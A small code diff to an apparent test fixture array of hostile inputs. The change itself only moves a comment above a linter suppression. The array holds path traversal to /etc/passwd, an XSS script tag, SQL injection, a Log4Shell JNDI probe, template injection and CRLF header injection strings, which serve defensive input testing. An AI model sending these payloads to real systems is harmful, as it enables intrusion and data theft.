@@ -38,8 +38,8 @@ export const NASTY = [
   '../../../etc/passwd',
   '<script>alert(1)</script>',
   "' OR '1'='1' --",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as this literal
-  // text
+  // A Log4Shell probe, sent as this literal text.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: see above
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '\r\nX-Injected: 1',
